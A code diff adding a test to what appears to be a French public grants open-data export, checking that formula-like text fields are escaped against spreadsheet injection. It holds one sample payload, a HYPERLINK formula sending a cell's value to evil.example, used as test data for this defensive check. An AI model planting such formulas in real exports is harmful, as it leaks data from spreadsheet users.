@@ -90,3 +90,33 @@ def test_the_open_data_page_documents_the_grants(client):
     page = client.get("/donnees/").content.decode()
     assert URL in page
     assert "dispositifAide" in page
+
+
+def test_texts_that_look_like_formulas_are_neutralised_and_the_rest_stays_raw(client, dept92):
+    dept92.siret = "22920001500019"
+    dept92.save()
+    call = CallFactory(department=dept92, title="+Appel 2026")
+    formula = '=HYPERLINK("https://evil.example/?leak="&B2,"x")'
+    association = OrganisationFactory(
+        department=dept92, name=formula, rna="W922000123", siret="12345678900011"
+    )
+    grant = _grant(call, 1, structure=association)
+    grant.application.title = "-\tProjet"
+    grant.application.save()
+    other = OrganisationFactory(department=dept92, name="\rCR", siret="")
+    _grant(call, 2, structure=other)
+
+    first, second = _rows(client.get(URL))
+
+    assert first["nomBeneficiaire"] == "'" + formula
+    assert first["nomAttribuant"] == "Département des Hauts-de-Seine"
+    assert first["dispositifAide"] == "'+Appel 2026"
+    assert first["objet"] == "'-\tProjet"
+    assert second["nomBeneficiaire"] == "'\rCR"
+    # Numbers, dates and identifiers are untouched.
+    assert first["idAttribuant"] == "22920001500019"
+    assert first["idBeneficiaire"] == "12345678900011"
+    assert first["rnaBeneficiaire"] == "W922000123"
+    assert first["montant"] == "4500.00"
+    assert first["datesPeriodeVersement"] == "2026-04-01/2026-12-15"
+    assert first["dateConvention"] == timezone.localtime(grant.created_at).date().isoformat()
